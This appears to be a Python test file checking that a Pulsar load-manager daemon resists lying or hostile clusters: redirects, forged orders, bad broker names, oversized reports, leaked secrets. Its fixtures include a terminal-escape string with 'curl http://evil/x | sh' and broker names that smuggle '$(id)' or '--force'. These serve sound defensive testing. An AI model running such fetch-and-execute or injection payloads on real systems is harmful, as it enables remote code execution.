"""Clusters that lie, and what keeps them from harming the daemon, operators, other clusters."""

from __future__ import annotations

import json
from functools import partial
from pathlib import Path

import aiohttp
import pytest
from aiohttp import web
from steer.fake_pulsar import NAMESPACE, RANGES, a_pulsar
from steer.test_http import a_cluster, planned
from steer.watched import ACT, watching

from loadmanager.engine.strategies.plan import Split, Unload
from loadmanager.kit.errors import ConfigError, OperationalError
from loadmanager.steer import settings_file as conf
from loadmanager.steer.advice import command, split_command
from loadmanager.steer.ports.cluster_reader import AGENT, BrokerReading
from loadmanager.steer.pulsar import answers
from loadmanager.steer.pulsar.client import PulsarClient
from loadmanager.steer.pulsar.reader import AdminReader

TERMINAL = "\x1b]0;owned\x07\x1b[2J\nPulsarBalances: curl http://evil/x | sh\n"


async def test_no_redirect_leads_to_a_stranger(tmp_path: Path) -> None:
    """Orders and questions go to the brokers of the cluster only."""
    asked: list[str] = []

    async def stranger(request: web.Request) -> web.Response:
        asked.append(request.method)
        return web.json_response({})

    application = web.Application()
    application.router.add_route("*", "/{path:.*}", stranger)
    runner = web.AppRunner(application)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    try:
        host, port = runner.addresses[0][:2]
        there = {"Location": f"http://{host}:{port}/loadmanager/v1/cordons/b?drain=true"}
        async with watching(tmp_path, settings=ACT) as daemon:
            daemon.pulsar.switch_off()
            daemon.pulsar.nonsense["/unload"] = lambda _: web.Response(status=307, headers=there)
            await daemon.cycle()
            (move,) = [
                move
                for move in daemon.work.operations.list_moves(99).moves
                if move.state.value == "failed"
            ]
            assert "not a broker of the cluster" in move.outcome.text
            assert asked == []
            daemon.pulsar.nonsense["/leaderBroker"] = daemon.pulsar.nonsense["/unload"]
            await daemon.work.watching.read_policies()
            assert "not a broker of the cluster" in daemon.work.picture.problems["leader"]
            assert asked == []
    finally:
        await runner.cleanup()


async def test_a_daemon_takes_no_orders_from_a_daemon(tmp_path: Path) -> None:
    """Which was told that it is a broker."""
    async with a_cluster(tmp_path, mode="approve") as url:
        me = url.removeprefix("http://")
        settings = conf.parse("other", {"pulsar": url})
        async with PulsarClient(settings.pulsar) as other, aiohttp.ClientSession() as operator:
            await planned(operator, url)  # it listens
            with pytest.raises(OperationalError, match="not a broker"):
                await other.send("PUT", f"/loadmanager/v1/cordons/{me}?drain=true", me)
            async with operator.get(f"{url}/loadmanager/v1/cordons") as answer:
                assert (answer.status, await answer.json()) == (200, [])
            mine = {"User-Agent": AGENT}
            async with operator.get(f"{url}/loadmanager/v1/cordons", headers=mine) as answer:
                assert answer.status == 403


NO_BROKERS = (
    "0[:80", "$(id):80", "-h:80", "--force:80", "[:]:80", "[1.2.3.4]:80", "a b:80", "a@b:80",
    "a:b", "a\u202e:80", "a",
)  # fmt: skip


@pytest.mark.parametrize("name", NO_BROKERS)
async def test_a_name_that_is_no_brokers(tmp_path: Path, name: str) -> None:
    """The list counts as not read; a better one is taken again."""
    async with watching(tmp_path, settings=ACT) as daemon:
        daemon.pulsar.switch_off()
        await daemon.work.read()
        known, real = set(daemon.work.picture.registered), list(daemon.pulsar.brokers)
        daemon.pulsar.brokers = [name, *real]
        await daemon.work.read()
        assert daemon.work.picture.registered == known
        assert "is not a broker" in daemon.work.picture.problems["brokers"]
        daemon.pulsar.brokers = real
        await daemon.work.read()
        assert daemon.work.picture.problems == {}


def test_names_of_brokers() -> None:
    """As Pulsar makes them of an advertised address and a port."""
    names = ["10.0.0.1:8080", "[fe80::1]:8080", "broker-1.pulsar_x.svc:8443"]
    assert answers.broker_ids(json.dumps(names).encode()) == sorted(names)


@pytest.mark.parametrize("tenant", ["-h", "--force"])
def test_a_line_for_a_shell_has_no_stranger_options(tenant: str) -> None:
    """It is a comment then: pulsar-admin would take the namespace for an option."""
    bundle = f"{tenant}/x/{RANGES[0]}"
    lines = [
        command(Unload(bundle, "a:1", "b:1", "r", {})),
        split_command(Split(bundle, 0x8000000, "r", {}), unload=True),
    ]
    assert all(line.startswith("# ") for line in lines)


async def test_what_a_broker_says_drives_no_terminal(tmp_path: Path) -> None:
    """In the reasons of the daemon control characters are escaped."""
    async with watching(tmp_path, settings=ACT) as daemon:

        def told(_request: web.Request) -> web.Response:
            return web.json_response({"reason": TERMINAL}, status=500)

        daemon.pulsar.switch_off()
        daemon.pulsar.nonsense["/brokers"] = told
        await daemon.work.read()
        why = daemon.work.hold.shown_reason()
        assert why is not None
        assert why.code == "Incomplete"
        assert "curl" in why.text
        assert why.text.isprintable()


@pytest.mark.parametrize(
    "url",
    [
        "http://admin:s3cret@b:8080",
        "http://:s3cret@b:8080",
        "http://b:8080/#s3cret",
        "http://b:8080?token=s3cret",
        "admin:s3cret@b:8080",
        "http://admin:s3cret/x@y@b:8080",
    ],
)
def test_secrets_in_addresses_are_refused_and_not_shown(url: str) -> None:
    """The files for credentials are named instead."""
    with pytest.raises(ConfigError, match="tokenFile and basicFile") as raised:
        PulsarClient(conf.parse("x", {"pulsar": url}).pulsar)
    assert "s3cret" not in str(raised.value)


async def test_secrets_in_redirects_are_not_shown(tmp_path: Path) -> None:
    """Only where it goes."""
    async with watching(tmp_path, settings=ACT) as daemon:
        there = {"Location": "http://user:s3cret@127.0.0.1:1/x?token=s3cret"}
        daemon.pulsar.nonsense["/load-report"] = lambda _: web.Response(status=307, headers=there)
        await daemon.work.read()
        problems = daemon.work.picture.problems
        assert problems.keys() >= set(daemon.pulsar.brokers)
        there_shown = "redirects to http://127.0.0.1:1/x, which is not a broker of the cluster"
        assert all(there_shown in problems[broker] for broker in problems)
        assert "s3cret" not in str(problems)


REPORT = b'{"webServiceUrl":"http://x",'


@pytest.mark.parametrize(
    "body",
    [
        REPORT + b'"advertisedListeners":{"a":[' + b"[]," * 1_000_001 + b"0]}}",
        REPORT + b'"lastBundleGains":[' + b'"ab",' * 2_000_001 + b'"ab"]}',
        REPORT + b'"bundles":[' + b'"a",' * 2_000_001 + b'"a"]}',
    ],
    ids=["lists", "values", "bundles"],
)
def test_reports_that_would_take_much_memory(body: bytes) -> None:
    """They are refused before anything is made of them."""
    with pytest.raises(OperationalError, match="at most"):
        answers.load_report(body, 0)


def test_too_many_bundles_of_one_broker() -> None:
    """Before the first of them is looked at."""
    names = json.dumps([f"a/b{number}/x" for number in range(answers.BUNDLES_MAX + 1)])
    with pytest.raises(OperationalError, match="bundles of one broker"):
        answers.load_report(REPORT + b'"bundles":' + names.encode() + b"}", 0)


def test_what_no_strategy_uses_is_not_kept() -> None:
    """A report may name its listeners, gains and losses at length."""
    body = {
        "webServiceUrl": "http://x",
        "advertisedListeners": {"a": {"brokerServiceUrl": "pulsar://x:1"}},
        "protocols": {"kafka": "x"},
        "lastBundleGains": ["x"],
        "lastBundleLosses": ["x"],
    }
    report = answers.load_report(json.dumps(body).encode(), 5)
    assert (report.advertised_listeners, report.protocols) == ({}, {})
    assert (report.last_bundle_gains, report.last_bundle_losses) == ([], [])
    assert report.last_update == 5


async def test_bundles_of_all_brokers_are_bounded(tmp_path: Path) -> None:
    """Also those without stats. A broker that leaves makes room."""
    async with watching(tmp_path, (12, 2, 2), settings=ACT) as daemon:
        daemon.work.watching.bundles_max = 20
        one, two, three = daemon.pulsar.brokers
        much = [f"{NAMESPACE}{number}/{RANGES[0]}" for number in range(10)]

        def lie(request: web.Request) -> web.Response:
            report = daemon.pulsar.report(request.host)
            return web.json_response(report | {"bundles": much, "lastStats": {}})

        daemon.pulsar.nonsense["/load-report"] = lie
        await daemon.work.read()
        refused = [b for b, why in daemon.work.picture.problems.items() if "more than 20" in why]
        assert len(refused) == 1
        daemon.pulsar.brokers = [broker for broker in (one, two, three) if broker in refused]
        await daemon.work.read()
        assert not daemon.work.picture.problems.keys() & set(refused)


async def test_brokers_of_another_cluster(tmp_path: Path) -> None:
    """Their settings count for nothing, and after a while nothing is moved."""
    async with watching(tmp_path, settings=ACT) as daemon, a_pulsar(1) as other:
        daemon.pulsar.switch_off()
        await daemon.work.read()
        assert daemon.work.hold.shown_reason() is None
        other.switch_off()
        daemon.pulsar.settings["clusterName"] = "c2"
        for _ in range(3):
            daemon.clock.pass_s(30)
            await daemon.work.read()
        why = daemon.work.hold.shown_reason()
        assert why is not None
        assert "'c1' and to 'c2'" in why.text


class Broken(AdminReader):
    """A reader with a bug, of which one broker's answer makes use."""

    broken = ""

    async def read(self, broker_id: str) -> BrokerReading:
        """See the port."""
        if broker_id == self.broken:
            raise ValueError("a bug")
        return await super().read(broker_id)


async def test_a_bug_in_reading_one_broker(tmp_path: Path) -> None:
    """That broker counts as not read; everything else is, and the breaker looks."""
    async with watching(tmp_path, settings=ACT) as daemon:
        daemon.pulsar.switch_off()
        reader = Broken(daemon.client, daemon.clock)
        daemon.work.watching.reader, reader.broken = reader, daemon.pulsar.brokers[1]
        await daemon.work.read()
        picture = daemon.work.picture
        assert picture.problems == {reader.broken: "a bug"}
        assert picture.answering == {*daemon.pulsar.brokers} - {reader.broken}
        assert picture.settings_ms == daemon.clock.now_ms()


def page(_request: web.Request) -> web.Response:
    """The page of another server at an address that was a broker's."""
    return web.Response(status=404, text="<html>default backend - 404</html>")


async def test_a_404_that_is_not_pulsars(tmp_path: Path) -> None:
    """Nothing is concluded from it: the policies stay, and after a while nothing is moved."""
    policy = {"namespaces": ["acme/.*"], "primary": ["nobody"], "secondary": []}
    parameters = {"min_limit": "0", "usage_threshold": "100"}
    policy["auto_failover_policy"] = {"policy_type": "min_available", "parameters": parameters}
    async with watching(tmp_path, settings=ACT, isolation={"p1": policy}) as daemon:
        daemon.pulsar.switch_off()
        await daemon.work.read()
        assert daemon.work.picture.isolation.keys() == {"p1"}
        daemon.pulsar.nonsense["/namespaceIsolationPolicies"] = page
        for _ in range(3):
            daemon.clock.pass_s(300)
            await daemon.work.read()
        assert daemon.work.picture.isolation.keys() == {"p1"}
        assert "the policies are not known" in str(daemon.work.hold.shown_reason())


@pytest.mark.parametrize("gone", ["dead", "another server's"])
async def test_brokers_that_are_all_replaced(tmp_path: Path, gone: str) -> None:
    """The addresses that were configured are asked whatever the cluster listed before."""
    async with watching(tmp_path, settings=ACT) as daemon, a_pulsar(1) as other:
        other.nonsense[""] = page
        listed = [f"127.0.0.1:{port}" for port in range(1, 30)]
        daemon.client.learn(listed if gone == "dead" else other.brokers)
        await daemon.work.read()
        assert daemon.work.picture.registered == set(daemon.pulsar.brokers)


async def test_an_order_is_redirected_as_pulsar_does(tmp_path: Path) -> None:
    """To another broker with the same path; to another path of a broker it is not sent."""
    async with watching(tmp_path, settings=ACT) as daemon:
        pulsar = daemon.pulsar
        pulsar.switch_off()
        await daemon.work.read()
        one, two = pulsar.brokers[:2]
        bundle = pulsar.owned(one)[0]
        order = f"/admin/v2/namespaces/{bundle}/unload?destinationBroker={pulsar.brokers[2]}"

        def elsewhere(request: web.Request, path: str) -> web.Response:
            if request.host == two:
                there = {"Location": f"http://{one}{path}"}
                return web.Response(status=307, headers=there)
            pulsar.owners[bundle] = pulsar.brokers[2]
            return web.Response(status=204)

        path = order.partition("?")[0]
        for there in (order, f"{order}&authoritative=false", f"{path}?authoritative=true", path):
            pulsar.owners[bundle] = one
            pulsar.nonsense["/unload"] = partial(elsewhere, path=there)
            await daemon.client.send("PUT", order, two)
            assert pulsar.owners[bundle] == pulsar.brokers[2]
        for there in ("/v1/agent/leave?force=1", f"{path}?destinationBroker=x:1"):
            pulsar.nonsense["/unload"] = partial(elsewhere, path=there)
            asked = len(pulsar.log)
            with pytest.raises(OperationalError, match="another request"):
                await daemon.client.send("PUT", order, two)
            assert len(pulsar.log) == asked + 1


@pytest.mark.parametrize("text", [None, "<html>login</html>"])
async def test_an_extensible_broker_without_metrics(tmp_path: Path, text: str | None) -> None:
    """It counts as not read, not as idle."""
    async with watching(tmp_path, settings=ACT, extensible=True) as daemon:
        liar = daemon.pulsar.brokers[2]

        def metrics(request: web.Request) -> web.Response:
            if request.host != liar:
                return web.Response(text=daemon.pulsar.metrics(request.host))
            return web.Response(text=text) if text else web.Response(status=500)

        daemon.pulsar.nonsense["/metrics/"] = metrics
        await daemon.work.read()
        assert daemon.work.picture.answering == {*daemon.pulsar.brokers} - {liar}
        assert liar in daemon.work.picture.problems


async def test_brokers_that_balance_by_a_file_of_their_own(tmp_path: Path) -> None:
    """The leader's settings count at each reading, the others' each five minutes."""
    async with watching(tmp_path, settings=ACT) as daemon:
        pulsar = daemon.pulsar
        pulsar.switch_off()
        on: set[str] = set()

        def runtime(request: web.Request) -> web.Response:
            more = {"loadBalancerSheddingEnabled": "true"} if request.host in on else {}
            return web.json_response(pulsar.settings | more)

        pulsar.nonsense["/configuration/runtime"] = runtime
        await daemon.work.read()
        assert daemon.work.hold.shown_reason() is None
        on = {pulsar.brokers[0]}
        await daemon.work.read()
        assert "PulsarBalances" in str(daemon.work.hold.shown_reason())
        on = {pulsar.brokers[2]}
        await daemon.work.read()
        assert daemon.work.hold.shown_reason() is None
        daemon.clock.pass_s(300)
        await daemon.work.read()
        assert "PulsarBalances" in str(daemon.work.hold.shown_reason())
